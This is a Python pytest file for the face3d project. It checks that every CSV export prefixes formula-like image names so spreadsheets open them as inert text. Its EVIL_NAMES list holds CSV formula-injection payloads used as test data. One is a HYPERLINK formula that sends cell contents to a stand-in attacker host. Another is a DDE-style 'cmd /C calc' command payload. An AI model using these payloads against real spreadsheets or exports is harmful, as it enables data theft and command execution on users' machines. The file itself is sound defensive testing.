"""CSV formula injection (issue 16, item 6): every CSV face3d writes opens as data, never as formulas.

A photo named ``=HYPERLINK(...).jpg`` (or ``+..``, ``-..``, ``@..``, a tab or CR first) once landed
as a live formula in the image cell of the 3D tab's CSV, the Compare CSV and ``face3d measure
--csv``. All three go through :func:`face3d_core.csv_safety.csv_text`; here each is made for real
from a measured face (a synthetic dome with five given landmarks, so no network and no detector).
"""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest
from PIL import Image

from dashboard.services.exports import Exports, MeasuredFace
from face3d_core.cli import main
from face3d_core.csv_safety import FORMULA_STARTS, csv_text, safe_cell
from face3d_core.faces import Face
from face3d_core.measure import CSV_COLUMNS, measure_face
from face3d_core.pipeline import DepthRef
from face3d_core.reconstruct import ReconstructionParams, reconstruct_face

#: Names an attacker could give a photo (no "/" for the ones that become files).
EVIL_NAMES = [
    '=HYPERLINK("https://attacker.invalid/?x="&A1,"open").jpg',
    "+SUM(1,2).jpg",
    "-2+3+cmd|' /C calc'!A0.jpg",
    "@SUM(A1:A9).png",
    "\t=1+1.png",
    "\r=1+1.png",
]
FILE_NAMES = ["=1+2.png", "+cmd.png", "-2+3.png", "@SUM(A1).png"]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _dangerous(cell: str) -> bool:
    """What a spreadsheet reads as a formula: a cell starting with = + - @ (tab and CR are skipped first)."""
    return cell.lstrip("\t\r").startswith(("=", "+", "-", "@"))


def test_safe_cell_neutralises_formula_starts_and_keeps_numbers():
    for name in EVIL_NAMES:
        assert safe_cell(name) == "'" + name and not _dangerous(safe_cell(name))
    assert safe_cell(-3.5) == -3.5 and safe_cell(0) == 0 and safe_cell(True) is True
    assert safe_cell(None) == "" and safe_cell(float("nan")) == "" and safe_cell("nose") == "nose"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    text = csv_text([{"image": name, "value_mm": -1.25} for name in EVIL_NAMES], ["image", "value_mm"])
    rows = _cells(text)
    assert [row["image"] for row in rows] == ["'" + name for name in EVIL_NAMES]  # the name, readable
    assert all(row["value_mm"] == "-1.25" for row in rows)  # negative numbers stay numbers


@pytest.fixture(scope="module")
def measured():
    """A measured synthetic face: a dome with five landmarks placed on it."""
    yy, xx = np.mgrid[0:240, 0:200].astype(np.float32)
    depth_mm = 400.0 - 60.0 * np.sqrt(np.clip(1 - ((xx - 100) / 90) ** 2 - ((yy - 120) / 110) ** 2, 0, None))
    image = np.dstack([np.full_like(xx, 180, np.uint8)] * 3)
    marks = np.array([[70, 95], [130, 95], [100, 130], [78, 165], [122, 165]], np.float32)
    params = ReconstructionParams(depth_kind="metric", fov_deg=40.0, smoothing_sigma=0.0, representation="points")
    model = reconstruct_face((np.where(depth_mm < 400, depth_mm, np.nan), image, Face.from_landmarks(marks)), params)
    return {"result": measure_face(model, fov_source="given"), "depth_mm": depth_mm, "image": image, "marks": marks}


def test_dashboard_measurement_csv_of_the_3d_tab_and_compare_are_inert(measured):
    """The 3D tab's CSV (one face) and Compare's (several) are both Exports.measurements_file."""
    exports = Exports(depth=None, models=None)  # measurement files need none of them
    ref = DepthRef("0" * 64, "midas_v21_small_256", 0, "bf16")
    faces = [MeasuredFace(name, measured["result"], ref) for name in EVIL_NAMES]
    for chosen in (faces[:1], faces):
        _, data = exports.measurements_file(chosen, "csv", "face3d_comparison")
        rows = _cells(data.decode("utf-8"))
        assert list(rows[0]) == list(CSV_COLUMNS) and len(rows) == len(chosen) * len(measured["result"].measurements)
        assert {row["image"] for row in rows} == {"'" + face.name for face in chosen}
        assert {(row["model"], row["precision"]) for row in rows} == {("midas_v21_small_256", "bf16")}
        assert not any(_dangerous(cell) for row in rows for cell in row.values() if not _is_number(cell))


def test_cli_measure_csv_run_in_the_photos_folder_is_inert(measured, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    depth_file = tmp_path / "depth.npy"
    np.save(depth_file, np.where(measured["depth_mm"] < 400, measured["depth_mm"], 0.0).astype(np.float32))
    (tmp_path / "marks.json").write_text(json.dumps({"landmarks_xy": measured["marks"].tolist()}))
    args = ["measure", "--depth-kind", "metric", "--fov", "40", "--smooth", "0", "--csv", "out.csv"]
    for name in FILE_NAMES:
        Image.fromarray(measured["image"]).save(tmp_path / name)
        args += ["--depth", "depth.npy", "--landmarks", "marks.json"]
    args += ["--", *FILE_NAMES]  # "-2+3.png" is a file name, not an option
    assert main(args) == 0, capsys.readouterr().err
    rows = _cells((tmp_path / "out.csv").read_text())
    assert {row["image"] for row in rows} == {"'" + name for name in FILE_NAMES}
    assert not any(_dangerous(cell) for row in rows for cell in row.values() if not _is_number(cell))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
